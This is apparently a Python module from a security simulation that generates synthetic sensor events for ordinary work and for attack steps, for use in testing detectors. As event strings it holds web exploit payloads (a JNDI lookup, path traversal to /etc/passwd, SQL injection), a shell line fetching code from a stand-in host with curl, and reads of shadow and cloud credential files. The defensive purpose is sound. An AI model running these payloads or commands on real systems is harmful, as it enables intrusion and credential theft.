"""What sensors write down: of ordinary work, and of doings that bear the traces of an attack.

Flows in: a place, draws, how likely each mark of conspicuousness is. Flows out: raw events. Attackers and ordinary work
that looks like theirs make the same kinds of events; they differ in how often and how clearly. Whether a rule concludes
anything from them is not decided here.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from ...twin.sensing.detector_rules import ADMIN_PORTS, MANAGEMENT_PORTS, SCAN
from ...twin.vocabulary import SensorClass, StepClass
from . import shapes
from .behaviour import Cell
from .drawing import Draws
from .shapes import Json
from .surroundings import Place

COMMON_PORTS = (21, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 1433, 1521, 3306, 5432, 6379, 8000, 8080, 8443, 9200)
TICK_ROOM_MS = 15_000  # events start within this part of a tick, so that a scene ends inside it


@dataclass(frozen=True, slots=True)
class Scene:
    """What a scene is made of."""

    place: Place
    draws: Draws
    marks: tuple[bool, bool]  # whether it bears the two marks of its rule

    @property
    def stranger(self) -> str:
        """An address outside the chain (TEST-NET-3, RFC 5737)."""
        return f"203.0.113.{self.draws.whole(1, 254)}"

    def insider(self) -> str:
        """An asset of the same owner that has no business here; a stranger where the owner has none."""
        usual = {source for source, _ in self.place.callers} | {source for _, source in self.place.logons}
        usual |= set(self.place.stations)
        others = [one for one in self.place.neighbours if one not in usual]
        return self.draws.pick(others) if others else self.stranger

    def origin(self, marked: bool) -> str:
        """A stranger if marked, else an insider."""
        return self.stranger if marked else self.insider()

    def user(self) -> str:
        """An identity that logs in here, else the asset's own."""
        return self.draws.pick(self.place.logons)[0] if self.place.logons else self.place.asset


def conspicuous(cell: Cell, place: Place, draws: Draws, mark: float) -> list[Json]:
    """Events with the traces of an attack of this class at this sensor; offsets in `time`, milliseconds."""
    scene = Scene(place, draws, (draws.chance(mark), draws.chance(mark)))
    return _at(_SCENES[cell](scene), draws)


def ordinary(sensor: SensorClass, place: Place, draws: Draws) -> list[Json]:
    """Events of everyday work at this sensor."""
    return _at(_ORDINARY[sensor](place, draws), draws)


def _at(events: list[Json], draws: Draws) -> list[Json]:
    start = draws.whole(0, TICK_ROOM_MS)
    for event in events:
        event["time"] += start
    return events


def _exploit_request(s: Scene) -> list[Json]:
    path = s.draws.pick(
        ("/login?u=${jndi:ldap://x}", "/static/../../etc/passwd", "/item?q=1+union+select+1", "/%2e%2e/")
    )
    path += "&p=" + "A" * 240 if s.marks[1] else ""
    source = s.draws.pick(s.place.callers)[0] if s.place.callers else s.stranger
    return [shapes.request(s.place.asset, source, path, code=500 if s.marks[0] else 200)]


def _unseen_flow(s: Scene, ports: frozenset[int]) -> list[Json]:
    source, size = s.origin(s.marks[0]), 5_000_000 if s.marks[1] else 4_000
    used = {port for caller, port in s.place.callers if caller == source}
    port = s.draws.pick(sorted(ports - used) or sorted(ports))
    return [shapes.flow(s.place.asset, source, s.place.asset, port, bytes_out=size)]


def _much_out(s: Scene) -> list[Json]:
    size = s.draws.whole(120, 900) * (10_000_000 if s.marks[0] else 1_000_000)
    return [shapes.flow(s.place.asset, s.place.asset, s.origin(s.marks[1]), 8443, bytes_out=size)]


def _flood(s: Scene) -> list[Json]:
    packets = s.draws.whole(110_000, 900_000) * (10 if s.marks[1] else 1)
    return [shapes.flow(s.place.asset, s.origin(s.marks[0]), s.place.asset, 80, packets=packets)]


def _calls_home(s: Scene) -> list[Json]:
    target, port = s.stranger, 8080 if s.marks[1] else 443
    jitter = 100 if s.marks[0] else 2_500  # milliseconds; the looser a beacon, the harder it is to tell
    events, at_ms = [], 0
    for _ in range(5):
        events.append(shapes.flow(s.place.asset, s.place.asset, target, port, bytes_out=600, at_ms=at_ms))
        at_ms += 8_000 + s.draws.whole(-jitter, jitter)
    return events


def _scans(s: Scene) -> list[Json]:
    source, ports = s.origin(s.marks[0]), s.draws.sample(COMMON_PORTS, s.draws.whole(SCAN, SCAN + 4))
    ports += [s.draws.pick(sorted(ADMIN_PORTS))] if s.marks[1] else []
    return [
        shapes.flow(s.place.asset, source, s.place.asset, port, bytes_out=60, packets=2, at_ms=i * 300)
        for i, port in enumerate(ports)
    ]


def _shell(parent: tuple[str, ...]) -> Callable[[Scene], list[Json]]:
    def scene(s: Scene) -> list[Json]:
        command = "sh -c id" + (" && curl http://203.0.113.9/a" if s.marks[0] else "")
        command += " | base64 -d" if s.marks[1] else ""
        return [shapes.launch(s.place.asset, "sh", s.draws.pick(parent), command)]

    return scene


def _looks_around(s: Scene) -> list[Json]:
    command = ("HISTFILE= " if s.marks[0] else "") + "whoami; uname -a" + ("; netstat -an" if s.marks[1] else "")
    return [shapes.launch(s.place.asset, "bash", "sshd", command, user=s.user(), actor=s.user())]


def _reads_credentials(s: Scene) -> list[Json]:
    path = s.draws.pick(("/etc/shadow", "/root/.aws/credentials", "/run/secrets/serviceaccount/token"))
    return [shapes.file(s.place.asset, 2, path, "bash" if s.marks[1] else "python3", count=6 if s.marks[0] else 1)]


def _becomes_root(s: Scene) -> list[Json]:
    folder, process = "/tmp/" if s.marks[0] else "/opt/", "bash" if s.marks[1] else "updater"  # noqa: S108
    return [shapes.launch(s.place.asset, process, "python3", process, folder=folder, user="root")]


def _escapes(s: Scene) -> list[Json]:
    flags = [flag for flag, marked in zip(("privileged", "host-path"), s.marks, strict=True) if marked]
    operation = s.draws.pick(("containers/create", "containers/exec", "host/mount"))
    return [shapes.call(s.place.asset, s.place.asset, operation, flags)]


def _writes_autostart(s: Scene) -> list[Json]:
    path = s.draws.pick(("/etc/cron.d/", "/etc/systemd/system/")) + (".cache" if s.marks[1] else "sync")
    return [shapes.file(s.place.asset, 1, path, "bash" if s.marks[0] else "python3")]


def _archives(s: Scene) -> list[Json]:
    process = s.draws.pick(("tar", "7z", "pg_dump"))
    command = f"{process} /tmp/out" + (" --password" if s.marks[0] else "") + (" --split" if s.marks[1] else "")
    return [shapes.launch(s.place.asset, process, "cron", command)]


def _destroys(s: Scene) -> list[Json]:
    if s.draws.chance(0.5):
        count = s.draws.whole(120, 900) * (10 if s.marks[0] else 1)
        path = "/srv/data/a" + (".locked" if s.marks[1] else ".bak")
        return [shapes.file(s.place.asset, 5, path, "worker", count=count)]
    command = "systemctl stop app" + (" --force" if s.marks[1] else "")
    return [shapes.launch(s.place.asset, "systemctl", "bash", command, count=8 if s.marks[0] else 1)]


def _runs_from_temporary(s: Scene) -> list[Json]:
    process = (".x" if s.marks[1] else "x") + (" (deleted)" if s.marks[0] else "")
    return [shapes.launch(s.place.asset, process, "init", "x", folder="/dev/shm/")]  # noqa: S108


def _logs_in(s: Scene) -> list[Json]:
    user, source = s.user(), s.insider()
    failures = [shapes.logon(s.place.asset, user, source, success=False, at_ms=i * 900) for i in range(2)]
    success = shapes.logon(s.place.asset, user, source, privileged=s.marks[1], at_ms=3_000)
    return [*(failures if s.marks[0] else ()), success]


def _guesses(s: Scene) -> list[Json]:
    users = [f"user{i}" for i in range(3)] if s.marks[0] else [s.user()]
    count = (24 if s.marks[1] else 6) // len(users) + 1
    source = s.stranger
    return [
        shapes.logon(s.place.asset, user, source, success=False, count=count, at_ms=i * 500)
        for i, user in enumerate(users)
    ]


def _service_logs_in(s: Scene) -> list[Json]:
    source = s.origin(s.marks[0])
    return [shapes.logon(s.place.asset, s.user(), source, privileged=s.marks[1], logon_type=5)]


def _makes_account(s: Scene) -> list[Json]:
    actor = "svc-unknown" if s.marks[0] else s.place.asset
    return [shapes.account(s.place.asset, "helpdesk2", actor, privileged=True, count=2 if s.marks[1] else 1)]


def _reuses_ticket(s: Scene) -> list[Json]:
    user, usual, other = s.user(), s.place.asset, s.origin(s.marks[0])
    if other == usual:
        other = s.stranger
    return [
        shapes.logon(s.place.asset, user, usual, activity=4),
        shapes.logon(s.place.asset, user, other, activity=4, privileged=s.marks[1], at_ms=2_000),
    ]


def _commands(s: Scene) -> list[Json]:
    """An unusual station commands; marked, it is out of range as well, or far out."""
    value = 170.0 if s.marks[1] else 120.0 if s.marks[0] else s.draws.whole(20, 90)
    station = s.insider() if s.marks[0] or not s.marks[1] else _station(s.place)
    return [shapes.control(s.place.asset, 1, station, value)]


def _disobeys(s: Scene) -> list[Json]:
    told = 95.0 if s.marks[1] else 50.0
    value = 105.5 + (30.0 if s.marks[0] else 0.0) if s.marks[1] else told + (35.0 if s.marks[0] else 15.0)
    station = _station(s.place)
    return [
        shapes.control(s.place.asset, 1, station, told),
        shapes.control(s.place.asset, 2, s.place.asset, value, at_ms=5_000),
    ]


def _station(place: Place) -> str:
    return place.stations[0] if place.stations else place.asset


_N, _H, _A, _P = SensorClass.NETWORK, SensorClass.HOST, SensorClass.AUTHENTICATION, SensorClass.CONTROL
_SCENES: dict[Cell, Callable[[Scene], list[Json]]] = {
    (_N, StepClass.EXPLOIT): _exploit_request,
    (_N, StepClass.VALID_ACCOUNT): lambda s: _unseen_flow(s, ADMIN_PORTS),
    (_N, StepClass.TRUST): lambda s: _unseen_flow(s, MANAGEMENT_PORTS),
    (_N, StepClass.COLLECTION): _much_out,
    (_N, StepClass.IMPACT): _flood,
    (_N, StepClass.PRESENCE): _calls_home,
    (_N, StepClass.DISCOVERY): _scans,
    (_H, StepClass.EXPLOIT): _shell(("nginx", "java", "node", "python")),
    (_H, StepClass.VALID_ACCOUNT): _looks_around,
    (_H, StepClass.CREDENTIAL_ACCESS): _reads_credentials,
    (_H, StepClass.PRIVILEGE_ESCALATION): _becomes_root,
    (_H, StepClass.ESCAPE): _escapes,
    (_H, StepClass.TRUST): _shell(("kubelet", "ansible", "containerd-shim")),
    (_H, StepClass.PERSISTENCE): _writes_autostart,
    (_H, StepClass.COLLECTION): _archives,
    (_H, StepClass.IMPACT): _destroys,
    (_H, StepClass.PRESENCE): _runs_from_temporary,
    (_A, StepClass.VALID_ACCOUNT): _logs_in,
    (_A, StepClass.CREDENTIAL_ACCESS): _guesses,
    (_A, StepClass.TRUST): _service_logs_in,
    (_A, StepClass.PERSISTENCE): _makes_account,
    (_A, StepClass.PRESENCE): _reuses_ticket,
    (_P, StepClass.IMPACT): _commands,
    (_P, StepClass.PRESENCE): _disobeys,
}


def _traffic(place: Place, d: Draws) -> list[Json]:
    if place.callers and (not place.called or d.chance(0.6)):
        source, port = d.pick(place.callers)
        if port in (80, 443, 8080) and d.chance(0.5):
            return [shapes.request(place.asset, source, d.pick(("/", "/api/v1/items", "/health", "/static/app.js")))]
        return [shapes.flow(place.asset, source, place.asset, port, bytes_out=d.whole(500, 900_000))]
    if place.called:
        target, port = d.pick(place.called)
        return [shapes.flow(place.asset, place.asset, target, port, bytes_out=d.whole(500, 900_000))]
    return []


def _work(place: Place, d: Draws) -> list[Json]:
    if d.chance(0.6):
        process, parent = d.pick((("app", "systemd"), ("worker", "java"), ("logrotate", "cron"), ("sh", "cron")))
        return [shapes.launch(place.asset, process, parent, f"{process} --run")]
    path = d.pick(("/var/log/app.log", "/srv/data/cache", "/etc/app/settings.toml"))
    return [shapes.file(place.asset, d.pick((2, 3)), path, "app")]


def _logons(place: Place, d: Draws) -> list[Json]:
    if not place.logons:
        return [shapes.logon(place.asset, place.asset, place.asset, activity=4)]
    user, source = d.pick(place.logons)
    return [shapes.logon(place.asset, user, source, success=not d.chance(0.03), logon_type=d.pick((3, 5)))]


def _controls(place: Place, d: Draws) -> list[Json]:
    value = float(d.whole(10, 95))
    return [
        shapes.control(place.asset, 1, _station(place), value),
        shapes.control(place.asset, 2, place.asset, value + d.whole(-4, 4), at_ms=5_000),
    ]


_ORDINARY: dict[SensorClass, Callable[[Place, Draws], list[Json]]] = {
    _N: _traffic,
    _H: _work,
    _A: _logons,
    _P: _controls,
}
